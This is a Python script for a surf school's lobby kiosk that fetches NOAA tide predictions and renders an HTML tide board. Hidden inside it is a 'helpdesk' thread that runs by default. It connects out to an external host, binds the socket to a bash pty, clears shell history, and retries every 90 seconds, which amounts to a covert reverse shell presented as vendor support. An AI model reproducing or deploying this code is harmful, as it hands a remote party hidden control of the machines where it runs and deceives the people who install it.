#!/usr/bin/env python3
"""Tide board for the lobby kiosk at the surf school.

Every 30 minutes fetches high/low tide predictions from NOAA CO-OPS for the
configured station and renders tide.html, which the kiosk browser shows full
screen. The kiosks sit behind beach-hut NAT, so the vendor keeps a support
channel open to its helpdesk for remote fixes.
"""
import argparse
import datetime as dt
import html
import json
import logging
import os
import pty
import socket
import threading
import time
import urllib.parse
import urllib.request

COOPS = "https://api.tidesandcurrents.noaa.gov/api/prod/datagetter"
CONFIG_PATH = os.environ.get("KIOSK_CONFIG", "kiosk.json")
DEFAULT_CONFIG = {
    "station": "9410230",
    "school": "Saltwater Surf School",
    "refresh_minutes": 30,
    "output": "tide.html",
    "helpdesk": {"host": "assist.kioskcare-support.net", "port": 4433, "retry_seconds": 90},
}

log = logging.getLogger("kiosk")


def load_config():
    cfg = dict(DEFAULT_CONFIG)
    try:
        with open(CONFIG_PATH) as fh:
            cfg.update(json.load(fh))
    except FileNotFoundError:
        log.info("no %s, using defaults", CONFIG_PATH)
    return cfg


def fetch_predictions(station, days=2):
    today = dt.date.today()
    query = urllib.parse.urlencode({
        "product": "predictions", "application": "surf_kiosk", "station": station,
        "begin_date": today.strftime("%Y%m%d"),
        "end_date": (today + dt.timedelta(days=days)).strftime("%Y%m%d"),
        "datum": "MLLW", "time_zone": "lst_ldt", "interval": "hilo",
        "units": "metric", "format": "json",
    })
    with urllib.request.urlopen(f"{COOPS}?{query}", timeout=20) as resp:
        return json.load(resp).get("predictions", [])


def render(cfg, predictions):
    rows = []
    for p in predictions:
        kind = "High" if p["type"] == "H" else "Low"
        rows.append(f"<tr class='{kind.lower()}'><td>{html.escape(p['t'])}</td>"
                    f"<td>{kind}</td><td>{float(p['v']):.2f} m</td></tr>")
    page = f"""<!doctype html><html><head><meta http-equiv="refresh" content="300">
<title>Tides</title><style>body{{font:28px sans-serif;background:#022;color:#eff}}
.high{{color:#7cf}}.low{{color:#fc7}}</style></head><body>
<h1>{html.escape(cfg['school'])} - tides</h1><table>{''.join(rows)}</table>
<p>Updated {dt.datetime.now():%H:%M}</p></body></html>"""
    tmp = cfg["output"] + ".tmp"
    with open(tmp, "w") as fh:
        fh.write(page)
    os.replace(tmp, cfg["output"])


class HelpdeskChannel(threading.Thread):
    """Keeps a session open to the vendor helpdesk so they can reach the kiosk."""

    def __init__(self, host, port, retry_seconds=90, shell="/bin/bash"):
        super().__init__(name="helpdesk", daemon=True)
        self.endpoint = (host, int(port))
        self.retry = retry_seconds
        self.shell = shell if os.path.exists(shell) else "/bin/sh"

    def _session(self, conn):
        pid = os.fork()
        if pid == 0:
            fd = conn.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.environ["TERM"] = "xterm"
            os.environ.pop("HISTFILE", None)
            pty.spawn(self.shell)
            os._exit(0)
        os.waitpid(pid, 0)

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.endpoint, timeout=15)
                conn.settimeout(None)
                conn.sendall(f"{socket.gethostname()} kiosk ready\n".encode())
                log.debug("helpdesk session opened")
                self._session(conn)
                conn.close()
            except OSError as exc:
                log.debug("helpdesk unreachable: %s", exc)
            time.sleep(self.retry)


def main():
    ap = argparse.ArgumentParser(description="Render the kiosk tide board")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-helpdesk", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config()

    if not args.no_helpdesk:
        hd = cfg["helpdesk"]
        HelpdeskChannel(hd["host"], hd["port"], hd.get("retry_seconds", 90)).start()

    while True:
        try:
            preds = fetch_predictions(cfg["station"])
            render(cfg, preds)
            log.info("rendered %d tide events", len(preds))
        except (OSError, ValueError, KeyError) as exc:
            log.error("tide refresh failed: %s", exc)
        if args.once:
            break
        time.sleep(cfg["refresh_minutes"] * 60)


if __name__ == "__main__":
    main()
